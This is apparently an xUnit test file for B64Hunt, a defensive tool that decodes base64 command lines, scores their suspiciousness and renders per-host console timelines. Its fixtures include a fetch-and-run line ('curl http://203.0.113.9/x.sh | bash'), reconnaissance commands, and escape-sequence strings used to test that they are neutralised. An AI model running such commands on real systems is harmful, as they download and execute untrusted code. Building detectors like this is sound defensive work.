using System;
using System.Collections.Generic;
using System.Linq;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using Xunit;
using static B64Hunt.Tests.Scoring.Fixture;

namespace B64Hunt.Tests.Reports
{
    public class ConsoleTimelineRendererTests
    {
        [Fact]
        public void DrawsOneRowPerHostWithBandMarksAlertsLegendAndList()
        {
            var lines = ConsoleTimelineRenderer.Render(ReportFixture.Layout(), new ConsoleTimelineOptions { Width = 40 }).ToList();
            Assert.Matches(@"^B64Hunt timeline: 4 command\(s\) \(\d+ execution\(s\)\) on 4 host\(s\), 2024-05-01 10:10 to 2024-05-01 13:20 UTC", lines[0]);
            // Host rows are ordered by their best command: web1 holds rank 1.
            var web1 = lines.Single(l => l.StartsWith("web1 "));
            int bar = web1.IndexOf('|');
            string cells = web1.Substring(bar + 1, 40);
            // Window 10:10..13:20 = 190 min over 40 columns (4.75 min each): whoami at 10:10 -> col 0 (3.5 -> 'O'),
            // curl at 10:30 -> col 4 (7.0 -> '@').
            Assert.Equal('O', cells[0]);
            Assert.Equal('@', cells[4]);
            Assert.Equal(2, cells.Count(c => c != ' '));
            // The alert on web1.contoso.com at 10:35 sits under web1, column 5.
            int web1Index = lines.IndexOf(web1);
            Assert.StartsWith("  alerts (1)", lines[web1Index + 1]);
            Assert.Equal('!', lines[web1Index + 1][bar + 1 + 5]);
            Assert.Contains(lines, l => l.StartsWith("Legend: . score < 1   o score 1 to < 3   O score 3 to < 6   @ score 6 or more   ! related alert"));
            int list = lines.IndexOf("Marked commands (by rank):");
            Assert.True(list > 0);
            Assert.Matches(@"^\s+1 @\s+7\.00 2024-05-01 10:30 2024-05-01 10:30\s+1 web1\s+curl http://203\.0\.113\.9/x\.sh \| bash$", lines[list + 2]);
            Assert.Contains(lines, l => l.Contains("Suspicious download"));
        }

        [Fact]
        public void PlainTextHasNoEscapeSequencesAndAttackerControlsAreVisible()
        {
            var lines = ConsoleTimelineRenderer.Render(ReportFixture.Layout(), new ConsoleTimelineOptions { Color = false }).ToList();
            Assert.DoesNotContain(lines, l => l.IndexOf('\u001b') >= 0 || l.IndexOf('\u202E') >= 0);
            Assert.Contains(lines, l => l.Contains("⏎line two ␛[31mred�gnp.exe"));
        }

        [Fact]
        public void ColourIsOnlyOnOurOwnMarks()
        {
            var lines = ConsoleTimelineRenderer.Render(ReportFixture.Layout(), new ConsoleTimelineOptions { Color = true }).ToList();
            Assert.Contains(lines, l => l.Contains("\u001b[1;91m@\u001b[0m"));
            // The decoded command's own ESC is still neutralised.
            Assert.Contains(lines, l => l.Contains("␛[31mred"));
        }

        [Fact]
        public void AggregatedEventsAreDrawnOnEveryHostAtFirstAndLastSeen()
        {
            var aggregated = new CommandEvent
            {
                DecodedCommand = "agg",
                EventCount = 4,
                Hostnames = new List<string> { "h1", "h2" },
                FirstSeen = T0,
                LastSeen = T0.AddHours(2),
            };
            var untimed = new CommandEvent { DecodedCommand = "no-time", Computer = "h3" };
            var layout = TimelineLayout.Build(CommandScorer.Score(new[] { aggregated, untimed }).Scores, null, 0);
            Assert.Equal(new[] { "h1", "h2" }, layout.Hosts.Select(h => h.Name).ToArray());
            Assert.All(layout.Hosts, h => Assert.Equal(new[] { T0, T0.AddHours(2) }, h.Marks.Select(m => m.Time).ToArray()));
            Assert.Equal(1, layout.UntimedEvents);
            var lines = ConsoleTimelineRenderer.Render(layout, new ConsoleTimelineOptions { Width = 20 }).ToList();
            Assert.Contains("1 execution(s) have no time and are not plotted.", lines);
            var h1 = lines.Single(l => l.StartsWith("h1 "));
            string cells = h1.Substring(h1.IndexOf('|') + 1, 20);
            Assert.Equal('.', cells[0]);    // agg: (1/4)/2 + (1/2)/2 = 0.375 -> '.'
            Assert.Equal('.', cells[19]);
        }

        [Fact]
        public void TopLimitsTheCommandsDrawn()
        {
            var layout = ReportFixture.Layout(top: 2);
            Assert.Equal(new[] { 1, 2 }, layout.Commands.Select(c => c.Rank).ToArray());
            var lines = ConsoleTimelineRenderer.Render(layout).ToList();
            Assert.DoesNotContain(lines, l => l.Contains("uname -a"));
        }

        [Fact]
        public void EmptyInputSaysSo()
        {
            var lines = ConsoleTimelineRenderer.Render(TimelineLayout.Build(Array.Empty<CommandScore>(), null, 0)).ToList();
            Assert.Equal("B64Hunt timeline: nothing to show (no commands and no alerts).", Assert.Single(lines));
        }
    }
}
